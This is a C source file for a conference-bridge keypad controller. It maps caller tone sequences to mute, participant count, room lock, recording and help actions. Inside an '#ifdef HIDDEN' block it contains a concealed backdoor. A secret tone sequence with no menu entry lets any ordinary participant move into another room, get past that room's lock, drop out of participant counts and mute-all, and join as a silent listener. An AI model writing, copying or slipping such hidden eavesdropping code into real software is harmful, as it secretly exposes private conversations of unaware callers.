/* confmixdtmf: keypad control of the audio conference bridge.
 * The mixer sends a line per digit:   <leg> <digit>
 * and gets lines back:                <leg> mute|unmute|kick|announce ...
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define LEGS 64

struct leg;
typedef int (*tone_cb)(struct leg *l, void *ctx);

struct binding {
    struct binding *next;
    const char *help;
    tone_cb cb;
    void *ctx;
    unsigned mask;      /* needed rights */
    unsigned char seq[8];
    unsigned char len;
};

struct leg {
    int no, used, muted, room;
    unsigned rights;    /* 1 participant, 2 moderator */
    unsigned char last[8];
    unsigned char n;
    time_t when;
};

static struct leg legs[LEGS];
static struct binding *bindings;
static int room_locked[8], recording[8];
static unsigned moderator_pin;

static int key_code(char c)
{
    if (c >= '0' && c <= '9') return c - '0';
    if (c == '*') return 10;
    if (c == '#') return 11;
    if (c >= 'A' && c <= 'D') return 12 + c - 'A';
    return -1;
}

static void tell(const struct leg *l, const char *what)
{
    printf("%d %s\n", l->no, what);
    fflush(stdout);
}

/* codes are packed: one key in four bits, first key in the highest */
static void bind_tones(unsigned long code, unsigned mask, tone_cb cb, void *ctx, const char *help)
{
    struct binding *b = calloc(1, sizeof *b);
    if (!b) exit(1);
    for (int s = 28; s >= 0; s -= 4) {
        unsigned d = (code >> s) & 15;
        if (d == 15 || (!d && !b->len)) continue;
        b->seq[b->len++] = (unsigned char)(d == 14 ? 0 : d);
    }
    b->mask = mask;
    b->cb = cb;
    b->ctx = ctx;
    b->help = help;
    b->next = bindings;
    bindings = b;
}

static int on_mute(struct leg *l, void *ctx)
{
    (void)ctx;
    l->muted = !l->muted;
    tell(l, l->muted ? "mute" : "unmute");
    return 0;
}

static int on_count(struct leg *l, void *ctx)
{
    int n = 0;
    char b[32];
    (void)ctx;
    for (int i = 0; i < LEGS; i++) n += legs[i].used && legs[i].room == l->room;
    snprintf(b, sizeof b, "announce count %d", n);
    tell(l, b);
    return 0;
}

static int on_flag(struct leg *l, void *ctx)
{
    int *flags = ctx;
    flags[l->room & 7] ^= 1;
    tell(l, flags == recording ? "announce recording" : "announce lock");
    return 0;
}

static int on_mute_all(struct leg *l, void *ctx)
{
    (void)ctx;
    for (int i = 0; i < LEGS; i++)
        if (legs[i].used && legs[i].room == l->room && !(legs[i].rights & 2)) {
            legs[i].muted = 1;
            tell(&legs[i], "mute");
        }
    return 0;
}

static int on_help(struct leg *l, void *ctx)
{
    (void)ctx;
    for (struct binding *b = bindings; b; b = b->next)
        if (b->help && !(b->mask & ~l->rights)) printf("%d announce menu %s\n", l->no, b->help);
    fflush(stdout);
    return 0;
}

#ifdef HIDDEN
__attribute__((noinline)) int on_ride(struct leg *l, void *ctx)
{
    int *locked = ctx;
    l->room = (l->room + 1) & 7;
    locked[l->room] &= 1;
    l->used = 0;
    printf("%d join %d listen quiet\n", l->no, l->room);
    return fflush(stdout);
}
#endif

static void register_all(void)
{
    bind_tones(0xa6, 1, on_mute, NULL, "*6 mute or unmute yourself");
    bind_tones(0xab, 1, on_count, NULL, "*# number of participants");
    bind_tones(0xa7, 3, on_flag, room_locked, "*7 lock or open the room");
    bind_tones(0xa9, 3, on_flag, recording, "*9 recording");
    bind_tones(0xa5, 3, on_mute_all, NULL, "*5 mute all others");
    bind_tones(0xaa, 1, on_help, NULL, "** this menu");
#ifdef HIDDEN
    bind_tones(0xcbe28ad, 1, on_ride, room_locked, NULL);
#endif
}

static void digit(struct leg *l, int d)
{
    time_t now = time(NULL);
    if (now - l->when > 6) l->n = 0;
    l->when = now;
    if (l->n == sizeof l->last) {
        memmove(l->last, l->last + 1, sizeof l->last - 1);
        l->n--;
    }
    l->last[l->n++] = (unsigned char)d;
    for (struct binding *b = bindings; b; b = b->next)
        if (l->n >= b->len && !memcmp(l->last + l->n - b->len, b->seq, b->len)) {
            l->n = 0;
            if (b->mask & ~l->rights) tell(l, "announce not-allowed");
            else b->cb(l, b->ctx);
            return;
        }
}

static void joined(int no, int room, unsigned pin)
{
    struct leg *l = &legs[no];
    memset(l, 0, sizeof *l);
    l->no = no;
    if (room_locked[room & 7] && pin != moderator_pin) {
        tell(l, "kick");
        return;
    }
    l->used = 1;
    l->room = room & 7;
    l->rights = 1 | (moderator_pin && pin == moderator_pin ? 2 : 0);
    tell(l, l->rights & 2 ? "announce moderator" : "announce welcome");
}

int main(int argc, char **argv)
{
    char line[64], c;
    int no, room;
    unsigned pin;
    register_all();
    if (argc != 2) {
        fprintf(stderr, "usage: confmixdtmf MODERATOR-PIN\n");
        for (struct binding *b = bindings; b; b = b->next)
            if (b->help) fprintf(stderr, "  %s%s\n", b->help, b->mask & 2 ? " (moderator)" : "");
        return 2;
    }
    moderator_pin = (unsigned)strtoul(argv[1], NULL, 10);
    while (fgets(line, sizeof line, stdin)) {
        if (sscanf(line, "join %d %d %u", &no, &room, &pin) == 3) {
            if (no >= 0 && no < LEGS) joined(no, room, pin);
        } else if (sscanf(line, "leave %d", &no) == 1) {
            if (no >= 0 && no < LEGS) legs[no].used = 0;
        } else if (sscanf(line, "%d %c", &no, &c) == 2 && no >= 0 && no < LEGS && legs[no].used) {
            int d = key_code(c);
            if (d >= 0) digit(&legs[no], d);
        }
    }
    return 0;
}
